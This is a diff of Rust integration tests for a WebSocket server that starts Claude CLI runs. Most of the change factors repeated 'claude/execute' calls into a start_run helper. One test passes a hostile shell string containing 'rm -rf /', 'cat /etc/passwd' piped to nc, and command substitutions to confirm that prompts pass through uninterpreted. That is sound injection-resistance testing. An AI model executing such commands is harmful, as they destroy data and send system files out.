@@ -48,6 +48,15 @@ async fn call(ws: &mut Ws, id: i64, method: &str, params: Value) -> Value {
         .unwrap_or_else(|| panic!("{method} failed: {reply}"))
 }
 
+/// Starts a `claude/execute` run; its run id.
+async fn start_run(ws: &mut Ws, id: i64, params: Value) -> String {
+    let started = call(ws, id, "claude/execute", params).await;
+    started["runId"]
+        .as_str()
+        .unwrap_or_else(|| panic!("no runId: {started}"))
+        .to_owned()
+}
+
 async fn call_err(ws: &mut Ws, id: i64, method: &str, params: Value) -> Value {
     let reply = ws.request(json!(id), method, params).await;
     reply
@@ -139,16 +148,12 @@ async fn two_joined_clients_get_every_line_in_order_and_one_complete() {
 
     // A third client, not joined, starts the run (a client's request helper skips events).
     let mut c = client(&server, "alpha").await;
-    let run = call(
+    let run = start_run(
         &mut c,
         3,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:lines=40 mock:slow=2"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let seen_a = events_until_complete(&mut a, &run).await;
     let seen_b = events_until_complete(&mut b, &run).await;
     assert_eq!(seen_a, seen_b, "both clients see the same events");
@@ -225,16 +230,12 @@ async fn a_reconnecting_client_recovers_the_lines_it_missed() {
     let mut b = client(&server, "alpha").await;
     call(&mut b, 1, "projects/join", json!({"project": "alpha"})).await;
     let mut c = client(&server, "alpha").await;
-    let run = call(
+    let run = start_run(
         &mut c,
         3,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:lines=30 mock:slow=30"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     // B sees a few events, then drops.
     let mut seen_b = Vec::new();
     while seen_b.len() < 5 {
@@ -278,10 +279,7 @@ async fn cancel_and_timeout_kill_the_whole_group_with_one_aborted_complete() {
         if how == "timeout" {
             params["timeoutSecs"] = json!(1.5);
         }
-        let run = call(&mut a, id, "claude/execute", params).await["runId"]
-            .as_str()
-            .unwrap()
-            .to_owned();
+        let run = start_run(&mut a, id, params).await;
         let init = first_output(&mut a).await;
         assert_eq!(init["data"]["message"]["subtype"], "init");
         let gc: i64 = std::fs::read_to_string(dir.join(".mock-grandchild.pid"))
@@ -348,16 +346,7 @@ async fn the_prompt_reaches_the_cli_byte_for_byte_and_without_server_variables()
     let prompt = "rm -rf / ; echo $(whoami) `id` && cat /etc/passwd | nc x 1 > /dev/null 2>&1 &\n\
                   \"double\" 'single' \\backslash\\ $HOME ${PATH} * ? [a-z] ~ # !history\n\
                   \ttab\r\ncrlf -p --resume evil 🚀 ünïcødé";
-    let run = call(
-        &mut a,
-        3,
-        "claude/execute",
-        json!({"project": "alpha", "prompt": prompt}),
-    )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    let run = start_run(&mut a, 3, json!({"project": "alpha", "prompt": prompt})).await;
     let events = events_until_complete(&mut a, &run).await;
     assert_eq!(events.last().unwrap()["data"]["success"], true);
     let info: Value = serde_json::from_slice(
@@ -408,16 +397,7 @@ async fn the_cli_gets_only_the_clean_base_and_the_configured_variables() {
     let mut a = client(&server, "alpha").await;
     call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
     call(&mut a, 2, "projects/join", json!({})).await;
-    let run = call(
-        &mut a,
-        3,
-        "claude/execute",
-        json!({"project": "alpha", "prompt": "hello"}),
-    )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    let run = start_run(&mut a, 3, json!({"project": "alpha", "prompt": "hello"})).await;
     let events = events_until_complete(&mut a, &run).await;
     assert_eq!(events.last().unwrap()["data"]["success"], true);
     let info: Value = serde_json::from_slice(
@@ -606,16 +586,12 @@ async fn rights_and_projects_come_from_the_token() {
         .collect();
     assert_eq!(ids, ["alpha"]);
     // Nor its runs.
-    let run = call(
+    let run = start_run(
         &mut all,
         2,
-        "claude/execute",
         json!({"project": "beta", "prompt": "mock:hang"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let mut alpha_exec = connect(mint(secret, json!(["alpha"]), "claude:execute")).await;
     let e = call_err(&mut alpha_exec, 1, "claude/cancel", json!({"runId": run})).await;
     assert_eq!(e["data"]["reason"], "not_found", "{e}");
@@ -662,16 +638,12 @@ async fn a_session_joins_another_project_its_token_grants() {
     assert_eq!(e["code"], -32003, "{e}");
 
     // A run on beta reaches the alpha session, each event naming beta; one on alpha too.
-    let run = call(
+    let run = start_run(
         &mut beta,
         2,
-        "claude/execute",
         json!({"project": "beta", "prompt": "hello beta"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let seen = events_until_complete(&mut watcher, &run).await;
     assert!(seen.len() >= 4, "{seen:#?}");
     assert!(
@@ -679,16 +651,12 @@ async fn a_session_joins_another_project_its_token_grants() {
         "{seen:#?}"
     );
     assert_eq!(seen.last().unwrap()["data"]["success"], true);
-    let own = call(
+    let own = start_run(
         &mut watcher,
         4,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "hello alpha"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let seen = events_until_complete(&mut watcher, &own).await;
     assert!(
         seen.iter().all(|e| e["data"]["project"] == "alpha"),
@@ -706,26 +674,13 @@ async fn a_session_joins_another_project_its_token_grants() {
     assert_eq!(left["unsubscribed"], true, "{left}");
     let info = call(&mut beta, 3, "projects/get", json!({"project": "beta"})).await;
     assert_eq!(info["subscribers"], 0);
-    let quiet = call(
-        &mut beta,
-        4,
-        "claude/execute",
-        json!({"project": "beta", "prompt": "unseen"}),
-    )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
-    let own = call(
+    let quiet = start_run(&mut beta, 4, json!({"project": "beta", "prompt": "unseen"})).await;
+    let own = start_run(
         &mut watcher,
         6,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:slow=300 after"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let seen = events_until_complete(&mut watcher, &own).await;
     assert!(
         seen.iter().all(|e| e["data"]["runId"] != quiet.as_str()),
@@ -768,26 +723,13 @@ async fn a_refresh_without_the_other_project_ends_its_subscription() {
     )
     .await;
     assert_eq!(refreshed["refreshed"], true, "{refreshed}");
-    let unseen = call(
-        &mut beta,
-        2,
-        "claude/execute",
-        json!({"project": "beta", "prompt": "unseen"}),
-    )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
-    let own = call(
+    let unseen = start_run(&mut beta, 2, json!({"project": "beta", "prompt": "unseen"})).await;
+    let own = start_run(
         &mut watcher,
         5,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:slow=300 after"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let seen = events_until_complete(&mut watcher, &own).await;
     assert!(
         seen.iter().all(|e| e["data"]["runId"] != unseen.as_str()),
@@ -812,16 +754,12 @@ async fn kill_9_during_appends_loses_no_acknowledged_message() {
     )
     .await;
     // A run that is live when the server dies.
-    let run = call(
+    let run = start_run(
         &mut a,
         2,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:hang"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let before = call(&mut a, 3, "projects/get", json!({"project": "alpha"})).await;
     assert_eq!(before["status"], "executing");
 
@@ -1007,16 +945,12 @@ async fn a_stopping_server_ends_live_runs_once_and_leaves_no_process() {
     let mut a = client(&server, "alpha").await;
     call(&mut a, 1, "projects/create", json!({"id": "alpha"})).await;
     call(&mut a, 2, "projects/join", json!({})).await;
-    let run = call(
+    let run = start_run(
         &mut a,
         3,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:ignore-term mock:grandchild"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     first_output(&mut a).await;
     let ws_dir = path.join("workspaces/alpha");
     let gc: i64 = std::fs::read_to_string(ws_dir.join(".mock-grandchild.pid"))
@@ -1082,16 +1016,12 @@ async fn the_go_servers_variable_names_configure_the_executor() {
     let e = call_err(&mut a, 2, "projects/create", json!({"id": "beta"})).await;
     assert_eq!(e["code"], -32004, "MAX_PROJECTS=1: {e}");
     call(&mut a, 3, "projects/join", json!({})).await;
-    let run = call(
+    let run = start_run(
         &mut a,
         4,
-        "claude/execute",
         json!({"project": "alpha", "prompt": "mock:hang"}),
     )
-    .await["runId"]
-        .as_str()
-        .unwrap()
-        .to_owned();
+    .await;
     let events = events_until_complete(&mut a, &run).await;
     let complete = &events.last().unwrap()["data"];
     assert_eq!(
